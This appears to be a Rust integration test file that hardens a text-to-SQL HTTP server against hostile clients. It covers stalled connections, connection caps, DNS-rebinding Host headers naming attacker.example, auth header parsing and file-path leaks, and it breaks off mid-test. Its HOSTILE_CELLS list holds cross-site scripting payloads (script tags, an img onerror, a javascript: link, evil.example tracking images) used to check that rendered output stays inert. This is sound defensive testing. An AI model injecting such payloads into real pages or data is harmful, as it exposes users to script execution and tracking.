//! `sqale serve` against hostile clients, over 127.0.0.1: connections that stall (half a
//! request, nothing, or nothing more after a response), more connections than the cap or the
//! open-file limit allows, requests abandoned in the queue, a `Host` that is not the server's
//! (DNS rebinding), a lower-case `bearer`, and answers that must not name the server's files.
//!
//! No model runs here: the service runs its episodes on a scripted stand-in for vLLM
//! (`support/stub_server.rs`), which answers each completion with a `submit_sql` call, at once
//! or, for a question with `HOLD` in it, when the test opens a gate. So the tests are quick and
//! need no `common::one_at_a_time()`.

mod common;
#[path = "support/serve_client.rs"]
mod serve_client;
#[path = "support/stub_server.rs"]
mod stub;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Condvar, Mutex};
use std::time::{Duration, Instant};

use serde_json::{json, Value};
use serve_client::{get, post, Server};
use stub::{Seen, Stub};

/// A gate the stub's held completions wait on.
#[derive(Default)]
struct Gate {
    open: Mutex<bool>,
    changed: Condvar,
}

impl Gate {
    fn open(&self) {
        *self.open.lock().unwrap() = true;
        self.changed.notify_all();
    }

    /// Waits until the gate opens (at most a minute, so that a failed test cannot hang).
    fn wait(&self) {
        let open = self.open.lock().unwrap();
        let _ = self.changed.wait_timeout_while(open, Duration::from_secs(60), |o| !*o).unwrap();
    }
}

/// The text of a prompt the stub tokenised (its ids are 1000 + each character's code point).
fn prompt_text(r: &Seen) -> String {
    let ids = r.body["prompt"].as_array().cloned().unwrap_or_default();
    ids.iter()
        .filter_map(|t| t.as_u64())
        .filter(|&t| t >= 1000)
        .filter_map(|t| char::from_u32((t - 1000) as u32))
        .collect()
}

/// A vLLM stand-in whose every completion submits `SELECT 1 AS one`; a question with `HOLD`
/// in it waits for `gate` first.
fn vllm(gate: Arc<Gate>) -> Stub {
    stub::start(move |r: &Seen| {
        if let Some(a) = stub::vllm_probe(r, 4096) {
            return a;
        }
        if prompt_text(r).contains("HOLD") {
            gate.wait();
        }
        let answer =
            format!("<think>done</think>\n{}", json!({"tool": "submit_sql", "args": {"sql": "SELECT 1 AS one"}}));
        stub::vllm_completion(r, &answer, 0)
    })
}

fn bin() -> &'static Path {
    Path::new(env!("CARGO_BIN_EXE_sqale"))
}

/// The arguments that put `sqale serve` on `stub`, then `extra`.
fn on_stub(stub: &Stub, extra: &[&str]) -> Vec<String> {
    let mut args: Vec<String> = ["--server", &stub.url, "--server-kind", "vllm", "--max-episode-tokens", "2000"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    args.extend(extra.iter().map(|s| s.to_string()));
    args
}

fn serve(stub: &Stub, extra: &[&str]) -> Server {
    let args = on_stub(stub, extra);
    Server::start(bin(), &args.iter().map(String::as_str).collect::<Vec<_>>())
}

/// `sqale serve ARGS` with the open-file limit (`ulimit -n`) set to `files`.
/// A server on a scripted vLLM stub whose API key is `s3cret-key` (its file in `dir`), and the
/// stub, which must outlive it.
fn serve_with_key(dir: &std::path::Path) -> (Stub, Server) {
    let key_file = dir.join("key");
    std::fs::write(&key_file, "s3cret-key\n").unwrap();
    let stub = vllm(Arc::default());
    let s = serve(&stub, &["--api-key-file", key_file.to_str().unwrap()]);
    (stub, s)
}

fn serve_with_file_limit(files: u32, args: &[String]) -> Server {
    let mut cmd = Command::new("sh");
    cmd.arg("-c").arg(format!("ulimit -n {files} && exec \"$0\" serve \"$@\"")).arg(bin()).args(args);
    Server::spawn(cmd)
}

fn addr(s: &Server) -> String {
    s.url.trim_start_matches("http://").to_string()
}

fn connect(s: &Server) -> TcpStream {
    let c = TcpStream::connect(addr(s)).expect("connect");
    c.set_nodelay(true).unwrap();
    c
}

/// Sends `request` (whole, `Connection: close`) and reads the answer: status and body.
fn raw(s: &Server, request: &str) -> (u16, String) {
    raw_bytes(s, request.as_bytes())
}

/// `GET path` with `headers` (each `Name: value`), by raw TCP.
fn raw_get(s: &Server, path: &str, headers: &[&str]) -> (u16, String) {
    let mut req = format!("GET {path} HTTP/1.1\r\nConnection: close\r\n");
    for h in headers {
        req.push_str(h);
        req.push_str("\r\n");
    }
    req.push_str("\r\n");
    raw(s, &req)
}

/// A `POST /v1/ask` with `body`, as raw bytes.
fn ask_request(s: &Server, body: &Value) -> String {
    let body = body.to_string();
    format!(
        "POST /v1/ask HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        addr(s),
        body.len()
    )
}

/// Waits at most `limit` for the server to close `c` (reading and dropping whatever it sends
/// first); returns how long that took, or `None` if it is still open.
fn closed_within(c: &mut TcpStream, limit: Duration) -> Option<Duration> {
    let start = Instant::now();
    let mut buf = [0u8; 4096];
    loop {
        let left = limit.checked_sub(start.elapsed())?;
        c.set_read_timeout(Some(left.max(Duration::from_millis(1)))).unwrap();
        match c.read(&mut buf) {
            Ok(0) => return Some(start.elapsed()),
            Ok(_) => continue,
            Err(e) if matches!(e.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut) => return None,
            // Reset by the server: closed too.
            Err(_) => return Some(start.elapsed()),
        }
    }
}

/// Reads the status line and server-sent events from `c` until `stop` says so.
fn read_events(c: TcpStream, mut stop: impl FnMut(&str) -> bool) -> (String, Vec<String>) {
    c.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    let mut reader = BufReader::new(c);
    let mut status = String::new();
    reader.read_line(&mut status).unwrap();
    let mut events = Vec::new();
    for line in reader.lines() {
        let Ok(line) = line else { break };
        if let Some(name) = line.strip_prefix("event:") {
            let name = name.trim().to_string();
            let done = stop(&name);
            events.push(name);
            if done {
                break;
            }
        }
    }
    (status.trim().to_string(), events)
}

/// Half-sent requests, silent connections and idle keep-alive connections are closed once the
/// header timeout passes, a body that stalls gets a 408 at the body timeout, and `/health`
/// answers beside them all the while. (Before, 20 half-sent requests were still open after 62
/// s: no timer was set on hyper's connections.)
#[test]
fn stalled_and_idle_connections_are_closed_at_their_timeouts() {
    let stub = vllm(Arc::default());
    let s = serve(&stub, &["--header-timeout", "1", "--body-timeout", "1"]);
    let mut stalled = Vec::new();
    for i in 0..8 {
        let mut c = connect(&s);
        // Half a request line, or the line and half the headers.
        let part = if i % 2 == 0 { "GET /heal" } else { "POST /v1/ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-" };
        c.write_all(part.as_bytes()).unwrap();
        stalled.push(("half a head", c));
    }
    for _ in 0..4 {
        stalled.push(("nothing sent", connect(&s)));
    }
    for _ in 0..4 {
        // A whole request and its answer, then nothing more on a keep-alive connection.
        let mut c = connect(&s);
        c.write_all(format!("GET /health HTTP/1.1\r\nHost: {}\r\n\r\n", addr(&s)).as_bytes()).unwrap();
        c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let mut buf = [0u8; 2048];
        let n = c.read(&mut buf).unwrap();
        assert!(String::from_utf8_lossy(&buf[..n]).starts_with("HTTP/1.1 200"), "{}", String::from_utf8_lossy(&buf));
        stalled.push(("idle after a response", c));
    }
    let mut slow_bodies = Vec::new();
    for _ in 0..2 {
        let mut c = connect(&s);
        c.write_all(
            format!(
                "POST /v1/ask HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\nContent-Length: 200\r\n\r\n{{\"question\": ",
                addr(&s)
            )
            .as_bytes(),
        )
        .unwrap();
        slow_bodies.push(c);
    }
    let (status, body) = get(&format!("{}/health", s.url), None);
    assert_eq!(status, 200, "health answers beside stalled clients: {body}");
    // Each closed within its 1 s timeout and a generous margin for a loaded machine.
    let margin = Duration::from_secs(6);
    for (what, c) in &mut stalled {
        let took = closed_within(c, margin);
        assert!(took.is_some(), "a connection with {what} is still open {margin:?} after a 1 s header timeout");
    }
    for mut c in slow_bodies {
        c.set_read_timeout(Some(margin)).unwrap();
        let mut answer = Vec::new();
        let _ = c.read_to_end(&mut answer);
        let answer = String::from_utf8_lossy(&answer);
        assert!(answer.starts_with("HTTP/1.1 408"), "a stalled body is answered 408: {answer:?}");
        assert!(answer.contains("--body-timeout"), "{answer}");
        assert!(closed_within(&mut c, Duration::from_secs(1)).is_some(), "and its connection closed");
    }
    let (status, _) = get(&format!("{}/health", s.url), None);
    assert_eq!(status, 200);
    assert!(!s.log.lock().unwrap().contains("panicked"));
}

/// The idle timeout waits for a request, never cuts an answer under way: an event stream and
/// a JSON answer that take three times the header timeout arrive whole.
#[test]
fn answers_under_way_outlive_the_idle_timeout() {
    let gate = Arc::new(Gate::default());
    let stub = vllm(gate.clone());
    let s = serve(&stub, &["--header-timeout", "1"]);
    let opener = std::thread::spawn({
        let gate = gate.clone();
        move || {
            std::thread::sleep(Duration::from_secs(3));
            gate.open();
        }
    });
    let sse = std::thread::spawn({
        let url = s.url.clone();
        move || serve_client::ask_stream(&url, json!({"question": "HOLD stream", "db": "demo"}), |_| false)
    });
    let r = post(&format!("{}/v1/ask", s.url), &json!({"question": "HOLD json", "db": "demo"}).to_string(), &[]);
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(r.json()["episode"]["sql"], "SELECT 1 AS one");
    let events = sse.join().unwrap().expect("the stream was accepted");
    assert_eq!(events.last().map(|e| e.event.as_str()), Some("done"), "{events:?}");
    opener.join().unwrap();
}

/// With the open-file limit at 48, 40 half-sent requests and 20 silent connections cannot keep
/// out `/health` or an episode: the connection cap (derived from the limit) keeps files for
/// episodes, and a connection over it replaces the quietest. (Before, 40 stalled header lines
/// under `prlimit --nofile=48` made `/health` time out.)
#[test]
fn health_and_episodes_answer_beside_stalled_clients_under_a_low_file_limit() {
    let dir = tempfile::tempdir().unwrap();
    let shop = dir.path().join("shop.sqlite");
    std::fs::copy(common::demo_db(), &shop).unwrap();
    let stub = vllm(Arc::default());
    let s = serve_with_file_limit(48, &on_stub(&stub, &["--db", &format!("shop={}", shop.display())]));
    let limit = s.metric("sqale_connections_limit").expect("the cap is in /metrics");
    assert!((2.0..48.0).contains(&limit), "cap {limit} under 48 files");
    let mut clients = Vec::new();
    for i in 0..60 {
        let Ok(mut c) = TcpStream::connect(addr(&s)) else { continue };
        if i < 40 {
            let _ = c.write_all(format!("GET /health HTTP/1.1\r\nHost: {}\r\n", addr(&s)).as_bytes());
        }
        clients.push(c);
    }
    for _ in 0..3 {
        let r = ureq::get(&format!("{}/health", s.url)).timeout(Duration::from_secs(5)).call();
        let r = r.unwrap_or_else(|e| panic!("/health beside 60 stalled clients: {e}; {}", s.log.lock().unwrap()));
        assert_eq!(r.status(), 200);
    }
    let body = json!({"question": "How many?", "db": "shop"}).to_string();
    let r = ureq::post(&format!("{}/v1/ask", s.url))
        .timeout(Duration::from_secs(30))
        .set("Content-Type", "application/json")
        .send_string(&body);
    let answer: Value = match r {
        Ok(r) => serde_json::from_str(&r.into_string().unwrap()).unwrap(),
        Err(e) => panic!("an episode beside 60 stalled clients: {e}; {}", s.log.lock().unwrap()),
    };
    assert_eq!(answer["rows"]["rows"], json!([[1]]), "{answer}");
    let open = s.metric("sqale_connections_open").unwrap();
    assert!(open <= limit, "{open} connections open, over the cap {limit}");
    assert!(s.metric("sqale_connections_evicted_total").unwrap() >= 1.0);
    let log = s.log.lock().unwrap().clone();
    assert!(!log.contains("cannot accept"), "the process ran out of files: {log}");
    drop(clients);
}

/// At the cap, a new connection takes the place of the quietest, never of one whose answer is
/// under way.
#[test]
fn over_the_cap_the_quietest_connection_makes_room() {
    let gate = Arc::new(Gate::default());
    let stub = vllm(gate.clone());
    let s = serve(&stub, &["--max-connections", "4", "--header-timeout", "60"]);
    // An answer under way: an event stream held by the gate.
    let mut stream = connect(&s);
    let body = json!({"question": "HOLD", "db": "demo", "stream": true});
    stream.write_all(ask_request(&s, &body).as_bytes()).unwrap();
    assert!(s.wait_metric("sqale_episodes_running", 1.0, Duration::from_secs(20)));
    let mut silent: Vec<TcpStream> = (0..3).map(|_| connect(&s)).collect();
    // The cap is full (the stream, three silent, and each metrics call's own once it ends).
    for _ in 0..5 {
        let (status, _) = get(&format!("{}/health", s.url), None);
        assert_eq!(status, 200);
    }
    assert!(s.metric("sqale_connections_evicted_total").unwrap() >= 1.0);
    assert!(s.metric("sqale_connections_open").unwrap() <= 4.0);
    let closed =
        silent.iter_mut().map(|c| closed_within(c, Duration::from_millis(200))).filter(Option::is_some).count();
    assert!(closed >= 1, "no silent connection made room");
    gate.open();
    let (status, events) = read_events(stream, |e| e == "done");
    assert!(status.starts_with("HTTP/1.1 200"), "{status}");
    assert_eq!(events.last().map(String::as_str), Some("done"), "the stream was not cut: {events:?}");
}

/// Closes `c` with a reset (`SO_LINGER` 0), as a client that gives up abruptly does.
fn reset(c: TcpStream) {
    use std::os::fd::AsRawFd;
    let linger = libc::linger { l_onoff: 1, l_linger: 0 };
    // SAFETY: setsockopt reads `linger`, which lives through the call, on a socket `c` owns.
    let rc = unsafe {
        libc::setsockopt(
            c.as_raw_fd(),
            libc::SOL_SOCKET,
            libc::SO_LINGER,
            (&linger as *const libc::linger).cast(),
            std::mem::size_of::<libc::linger>() as libc::socklen_t,
        )
    };
    assert_eq!(rc, 0, "SO_LINGER");
    drop(c);
}

/// A server with one worker and a queue of `queue` on `stub`, its worker held by an episode the
/// stub holds (`HOLD`) until its gate opens; returns the server and the held episode's client.
#[allow(clippy::type_complexity)]
fn hold_the_worker(
    stub: &Stub,
    queue: &str,
) -> (Server, std::thread::JoinHandle<Result<Vec<serve_client::Sse>, serve_client::Reply>>) {
    let s = serve(stub, &["--parallel", "1", "--queue", queue]);
    let running = std::thread::spawn({
        let url = s.url.clone();
        move || serve_client::ask_stream(&url, json!({"question": "HOLD", "db": "demo"}), |_| false)
    });
    assert!(s.wait_metric("sqale_episodes_running", 1.0, Duration::from_secs(20)), "{}", s.log.lock().unwrap());
    (s, running)
}

/// A queued request whose client hangs up leaves the queue at once: four abandoned requests no
/// longer keep a queue of four full until the running episode ends. The event streams' clients
/// close (the server probes them, and they answer with a reset); the JSON clients reset their
/// connections. (A JSON client that only closes its side is taken to be waiting for its answer:
/// `a_client_that_closes_its_sending_side_gets_its_answer`.)
#[test]
fn abandoned_queued_requests_leave_the_queue() {
    let gate = Arc::new(Gate::default());
    let stub = vllm(gate.clone());
    let (s, running) = hold_the_worker(&stub, "4");
    let mut queued = Vec::new();
    for i in 0..4 {
        let mut c = connect(&s);
        let body = json!({"question": format!("q{i}"), "db": "demo", "stream": i % 2 == 1});
        c.write_all(ask_request(&s, &body).as_bytes()).unwrap();
        queued.push(c);
    }
    assert!(s.wait_metric("sqale_queue_depth", 4.0, Duration::from_secs(20)), "{}", s.log.lock().unwrap());
    let r = post(&format!("{}/v1/ask", s.url), &json!({"question": "one more", "db": "demo"}).to_string(), &[]);
    assert_eq!(r.status, 503, "the queue is full: {}", r.body);
    // The four clients hang up.
    for (i, c) in queued.into_iter().enumerate() {
        if i % 2 == 1 {
            let _ = c.shutdown(std::net::Shutdown::Both);
        } else {
            reset(c);
        }
    }
    assert!(
        s.wait_metric("sqale_queue_depth", 0.0, Duration::from_secs(10)),
        "abandoned requests still hold the queue: depth {:?}",
        s.metric("sqale_queue_depth")
    );
    assert_eq!(s.metric("sqale_episodes_running"), Some(1.0), "the running episode goes on");
    assert_eq!(s.metric("sqale_episodes_failed_total{reason=\"cancelled\"}"), Some(4.0));
    // A new request is queued (not refused) while the first episode still runs.
    let mut next = connect(&s);
    next.write_all(ask_request(&s, &json!({"question": "next", "db": "demo", "stream": true})).as_bytes()).unwrap();
    let mut opened = false;
    let (status, events) = read_events(next, |e| {
        if e == "queued" && !opened {
            gate.open();
            opened = true;
        }
        e == "done" || e == "error"
    });
    assert!(status.starts_with("HTTP/1.1 200"), "{status}");
    assert_eq!(events.first().map(String::as_str), Some("queued"));
    assert_eq!(events.last().map(String::as_str), Some("done"), "{events:?}");
    let first = running.join().unwrap().expect("accepted");
    assert_eq!(first.last().map(|e| e.event.as_str()), Some("done"));
    assert_eq!(s.metric("sqale_queue_depth"), Some(0.0));
}

/// A full queue is one refusal, whichever face is asked: `/v1/ask` and `/v1/chat/completions`,
/// whole or streamed, get the same status (503) and the same `Retry-After`, each in its own
/// shape (sqale's `{"error", "status"}`, OpenAI's `{"error": {…, "code": "queue_full"}}`), and
/// the requests already taken still get their answers. (Before, the OpenAI face answered 429.)
#[test]
fn a_full_queue_is_the_same_refusal_on_both_faces() {
    let gate = Arc::new(Gate::default());
    let stub = vllm(gate.clone());
    let (s, running) = hold_the_worker(&stub, "1");
    let waiting = std::thread::spawn({
        let url = s.url.clone();
        move || post(&format!("{url}/v1/ask"), &json!({"question": "waits", "db": "demo"}).to_string(), &[])
    });
    assert!(s.wait_metric("sqale_queue_depth", 1.0, Duration::from_secs(20)), "{}", s.log.lock().unwrap());
    let ask = format!("{}/v1/ask", s.url);
    let chat_url = format!("{}/v1/chat/completions", s.url);
    let question = json!({"question": "one more", "db": "demo"});
    let mut refusals = Vec::new();
    for stream in [false, true] {
        let mut native = question.clone();
        native["stream"] = json!(stream);
        refusals.push(("/v1/ask", stream, post(&ask, &native.to_string(), &[])));
        let openai = chat("demo", "one more", json!({"stream": stream}));
        refusals.push(("/v1/chat/completions", stream, post(&chat_url, &openai.to_string(), &[])));
    }
    let mut waits = Vec::new();
    for (path, stream, r) in &refusals {
        let what = format!("{path} (stream: {stream}): {r:?}");
        assert_eq!(r.status, 503, "{what}");
        assert!(r.content_type.starts_with("application/json"), "{what}");
        let wait: u64 = r.retry_after.as_deref().unwrap_or_else(|| panic!("no Retry-After: {what}")).parse().unwrap();
        assert!(wait >= 1, "{what}");
        waits.push(wait);
        let body = r.json();
        if *path == "/v1/ask" {
            assert_eq!(body.as_object().map(|o| o.len()), Some(2), "sqale's shape: {what}");
            assert_eq!(body["status"], 503, "{what}");
            assert!(body["error"].as_str().unwrap_or_default().contains("busy"), "{what}");
        } else {
            let e = &body["error"];
            assert_eq!(e["code"], "queue_full", "{what}");
            assert_eq!(e["type"], "server_error", "{what}");
            assert!(e["param"].is_null(), "{what}");
            assert!(e["message"].as_str().unwrap_or_default().contains("busy"), "{what}");
        }
    }
    assert!(waits.windows(2).all(|w| w[0] == w[1]), "the same Retry-After on both faces: {waits:?}");
    assert_eq!(s.metric("sqale_requests_refused_total{reason=\"queue_full\"}"), Some(4.0));
    // The requests already taken are answered.
    gate.open();
    let first = running.join().unwrap().expect("accepted");
    assert_eq!(first.last().map(|e| e.event.as_str()), Some("done"));
    let second = waiting.join().unwrap();
    assert_eq!(second.status, 200, "{}", second.body);
}

/// A loopback server without a key answers only to its addresses, `localhost` and the names
/// given with `--allow-host`: a page on `attacker.example` resolved to 127.0.0.1 (DNS
/// rebinding, as in Ollama's CVE-2024-28224) is refused with a 403 that names the fix.
#[test]
fn a_request_naming_another_host_is_refused() {
    let stub = vllm(Arc::default());
    let s = serve(&stub, &["--allow-host", "sqale.example.lan"]);
    let port = addr(&s).rsplit(':').next().unwrap().to_string();
    for host in [addr(&s), "localhost".into(), format!("localhost:{port}"), format!("[::1]:{port}"), "127.0.0.1".into()]
    {
        let (status, body) = raw_get(&s, "/health", &[&format!("Host: {host}")]);
        assert_eq!(status, 200, "Host: {host}: {body}");
    }
    let (status, _) = raw_get(&s, "/v1/databases", &["Host: SQALE.example.lan:8080"]);
    assert_eq!(status, 200, "a name given with --allow-host");
    for (path, headers) in [
        ("/health", vec!["Host: attacker.example".to_string()]),
        ("/v1/databases", vec![format!("Host: attacker.example:{port}")]),
        ("/", vec!["Host: localhost.attacker.example".into()]),
        ("/v1/nothing", vec!["Host: 127.0.0.1.attacker.example".into()]),
        // An absolute target names the server too.
        ("http://attacker.example/health", vec![format!("Host: {}", addr(&s))]),
    ] {
        let headers: Vec<&str> = headers.iter().map(String::as_str).collect();
        let (status, body) = raw_get(&s, path, &headers);
        assert_eq!(status, 403, "{path} {headers:?}: {body}");
        let error = serde_json::from_str::<Value>(&body).unwrap()["error"].as_str().unwrap().to_string();
        assert!(error.contains("--allow-host") && error.contains("attacker.example"), "{error}");
    }
    let ask = ask_request(&s, &json!({"question": "q", "db": "demo"})).replace(&addr(&s), "attacker.example");
    let (status, body) = raw(&s, &ask);
    assert_eq!(status, 403, "a question from a rebound page: {body}");
    let (status, body) = raw(&s, "GET /health HTTP/1.0\r\n\r\n");
    assert_eq!(status, 400, "no Host at all: {body}");
    // '*' turns the check off.
    let any_stub = vllm(Arc::default());
    let any = serve(&any_stub, &["--allow-host", "*"]);
    let (status, _) = raw_get(&any, "/health", &["Host: attacker.example"]);
    assert_eq!(status, 200);
}

/// The scheme of `Authorization: Bearer KEY` is case-insensitive (RFC 9110): `bearer KEY` and
/// `BEARER KEY` are the key; and a server with a key checks `Host` too.
#[test]
fn the_bearer_scheme_is_case_insensitive() {
    let dir = tempfile::tempdir().unwrap();
    let (_stub, s) = serve_with_key(dir.path());
    let host = format!("Host: {}", addr(&s));
    for auth in ["Bearer s3cret-key", "bearer s3cret-key", "BEARER s3cret-key", "Bearer   s3cret-key"] {
        let (status, body) = raw_get(&s, "/v1/databases", &[&host, &format!("Authorization: {auth}")]);
        assert_eq!(status, 200, "{auth}: {body}");
    }
    for auth in ["Basic s3cret-key", "bearer wrong", "bearers3cret-key"] {
        let (status, _) = raw_get(&s, "/v1/databases", &[&host, &format!("Authorization: {auth}")]);
        assert_eq!(status, 401, "{auth}");
    }
    let (status, _) = raw_get(&s, "/v1/databases", &["Host: attacker.example", "Authorization: bearer s3cret-key"]);
    assert_eq!(status, 403);
}

/// `PATH` with its folder, as the server was given it: what no client may see.
fn folder_of(p: &Path) -> String {
    p.parent().unwrap().display().to_string()
}

/// No answer names a file of the server's machine: neither the prompt file (`--prompt-from`)
/// in an episode, nor the database's file when it was deleted or replaced while the server
/// runs (HTTP and events); those paths go to the server's log only. (Before, the 500 said
/// `database not found: /…/shop.sqlite`, and every answer carried the prompt file's path.)
#[test]
fn no_answer_names_a_file_of_the_server() {
    let dir = tempfile::tempdir().unwrap();
    let shop = dir.path().join("shop.sqlite");
    std::fs::copy(common::demo_db(), &shop).unwrap();
    let prompt = dir.path().join("my_prompt.py");
    std::fs::copy(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/copy_prompt.py"), &prompt).unwrap();
    let folder = folder_of(&shop);
    let stub = vllm(Arc::default());
    let s = serve(&stub, &["--db", &format!("shop={}", shop.display()), "--prompt-from", prompt.to_str().unwrap()]);
    let ask = format!("{}/v1/ask", s.url);
    let body = json!({"question": "How many?", "db": "shop"}).to_string();
    let r = post(&ask, &body, &[]);
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(!r.body.contains(&folder), "an answer names the server's folder {folder}: {}", r.body);
    assert_eq!(r.json()["episode"]["prompt_source"], "my_prompt.py");
    let events = serve_client::ask_stream(&s.url, json!({"question": "How many?", "db": "shop"}), |_| false).unwrap();
    for e in &events {
        assert!(!e.data.to_string().contains(&folder), "{}: {}", e.event, e.data);
    }

    for (what, damage) in [("deleted", None), ("replaced", Some(&b"this is not a database"[..]))] {
        std::fs::remove_file(&shop).unwrap();
        if let Some(bytes) = damage {
            std::fs::write(&shop, bytes).unwrap();
        }
        let r = post(&ask, &body, &[]);
        assert_eq!(r.status, 500, "{what}: {}", r.body);
        let error = r.json()["error"].as_str().unwrap().to_string();
        assert!(!error.contains(&folder), "{what}: the error names the file: {error}");
        assert!(error.contains("shop"), "{what}: the error names the database: {error}");
        let events =
            serve_client::ask_stream(&s.url, json!({"question": "How many?", "db": "shop"}), |_| false).unwrap();
        let last = events.last().unwrap();
        assert_eq!(last.event, "error", "{what}: {events:?}");
        assert!(!last.data.to_string().contains(&folder), "{what}: {}", last.data);
        let _ = std::fs::remove_file(&shop);
        std::fs::copy(common::demo_db(), &shop).unwrap();
    }
    let (_, dbs) = get(&format!("{}/v1/databases", s.url), None);
    assert!(!dbs.contains(&folder), "{dbs}");
    // The server's own log keeps the whole story.
    assert!(s.log.lock().unwrap().contains(&shop.display().to_string()), "{}", s.log.lock().unwrap());
}

/// `sqale mcp`'s tool errors name the database, never its file, when the file is gone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_tool_errors_name_no_file() {
    use rmcp::model::CallToolRequestParams;
    use rmcp::transport::{ConfigureCommandExt, TokioChildProcess};
    use rmcp::ServiceExt;

    let dir = tempfile::tempdir().unwrap();
    let shop: PathBuf = dir.path().join("shop.sqlite");
    std::fs::copy(common::demo_db(), &shop).unwrap();
    let spec = format!("shop={}", shop.display());
    let transport = TokioChildProcess::new(tokio::process::Command::new(bin()).configure(|cmd| {
        cmd.args(["mcp", "--tools-only", "--db", &spec]).stderr(Stdio::null());
    }))
    .expect("spawn sqale mcp");
    let client = ().serve(transport).await.expect("MCP initialize");
    std::fs::remove_file(&shop).unwrap();
    let args = json!({"db": "shop"}).as_object().cloned().unwrap();
    let r = client.call_tool(CallToolRequestParams::new("list_tables").with_arguments(args)).await.unwrap();
    let text: String = r.content.iter().filter_map(|c| c.as_text()).map(|t| t.text.clone()).collect();
    assert_eq!(r.is_error, Some(true), "{text}");
    assert!(!text.contains(&folder_of(&shop)), "the tool error names the file: {text}");
    assert!(text.contains("shop"), "{text}");
    client.cancel().await.unwrap();
}

/// Sends `bytes` and reads the answer (the server closes after it): status and body.
fn raw_bytes(s: &Server, bytes: &[u8]) -> (u16, String) {
    let mut c = connect(s);
    c.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    c.write_all(bytes).unwrap();
    let mut out = Vec::new();
    let _ = c.read_to_end(&mut out);
    let text = String::from_utf8_lossy(&out).into_owned();
    let status = text.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    let body = text.split_once("\r\n\r\n").map(|(_, b)| b.to_string()).unwrap_or_default();
    (status, body)
}

/// A `POST PATH` of `body` (JSON) as raw bytes, keep-alive.
fn post_request(s: &Server, path: &str, body: &Value) -> String {
    let body = body.to_string();
    format!(
        "POST {path} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        addr(s),
        body.len()
    )
}

/// A chat asking `question` of the database `db`, with `extra` fields.
fn chat(db: &str, question: &str, extra: Value) -> Value {
    let mut body = json!({"model": db, "messages": [{"role": "user", "content": question}]});
    for (k, v) in extra.as_object().cloned().unwrap_or_default() {
        body[k] = v;
    }
    body
}

/// The text of the cells, the code blocks and the whole of `markdown` as a real renderer
/// (pulldown-cmark, CommonMark with GitHub's tables and the common extensions) reads it, and
/// anything in it that a browser would load or run: HTML, links, images.
struct Rendered {
    html: String,
    cells: Vec<String>,
    code: Vec<String>,
    active: Vec<String>,
}

fn render(markdown: &str) -> Rendered {
    use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_MATH
        | Options::ENABLE_GFM;
    let events: Vec<Event> = Parser::new_ext(markdown, options).collect();
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, events.clone().into_iter());
    let (mut cells, mut code, mut active) = (Vec::new(), Vec::new(), Vec::new());
    let (mut cell, mut block): (Option<String>, Option<String>) = (None, None);
    for e in events {
        match e {
            Event::Start(Tag::TableCell) => cell = Some(String::new()),
            Event::End(TagEnd::TableCell) => cells.extend(cell.take()),
            Event::Start(Tag::CodeBlock(_)) => block = Some(String::new()),
            Event::End(TagEnd::CodeBlock) => code.extend(block.take()),
            Event::Text(t) | Event::Code(t) => {
                if let Some(b) = block.as_mut().or(cell.as_mut()) {
                    b.push_str(&t);
                }
            }
            Event::Html(h) | Event::InlineHtml(h) => active.push(format!("HTML {h}")),
            Event::Start(Tag::Link { dest_url, .. }) => active.push(format!("link {dest_url}")),
            Event::Start(Tag::Image { dest_url, .. }) => active.push(format!("image {dest_url}")),
            Event::Start(Tag::FootnoteDefinition(_)) | Event::FootnoteReference(_) => active.push("footnote".into()),
            Event::InlineMath(m) | Event::DisplayMath(m) => active.push(format!("math {m}")),
            _ => {}
        }
    }
    Rendered { html, cells, code, active }
}

/// Cells that a chat UI would turn into HTML, links, images or code (issue 55's findings).
const HOSTILE_CELLS: &[&str] = &[
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "![i](http://evil.example/track.png)",
    "<script>alert(1)</script>",
    "`ticks` and ``` a fence",
    "<http://evil.example/auto>",
    "&lt;img src=x&gt; &amp;",
    "*em* _em_ ~~gone~~ $x$ [^1]",
    "a|b \\| back\\slash\\",
    "two\nlines",
    "[ref]: http://evil.example/",
    "plain_name 12.5 Łódź",
];

/// A vLLM stand-in whose episodes submit the SQL between `SQL<<` and `>>SQL` in the question,
/// after thinking `thinking`.
fn vllm_submitting(thinking: &'static str) -> Stub {
    stub::start(move |r: &Seen| {
        if let Some(a) = stub::vllm_probe(r, 4096) {
            return a;
        }
        let prompt = prompt_text(r);
        let sql = prompt.split("SQL<<").nth(1).and_then(|s| s.split(">>SQL").next()).unwrap_or("SELECT 1");
        let answer = format!("<think>{thinking}</think>\n{}", json!({"tool": "submit_sql", "args": {"sql": sql}}));
        stub::vllm_completion(r, &answer, 0)
    })
}

/// The chat answer's Markdown shows the data as written and nothing more: a real renderer finds
/// no HTML element, link or image in the table, the SQL's code block cannot be closed by the
/// SQL (a line of three backticks and an `<img>` after it stay inside), and the reasoning (the
/// thinking and the tools' results, data included) is inert too; the same whole or streamed.
/// (Before, `<img …>`, links and images in cells came through as written, and SQL with three
/// backticks broke out of its block.)
#[test]
fn chat_answers_show_hostile_data_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("h.sqlite");
    let conn = rusqlite::Connection::open(&db).unwrap();
    conn.execute("CREATE TABLE t(n INTEGER, v TEXT)", []).unwrap();
    for (i, v) in HOSTILE_CELLS.iter().enumerate() {
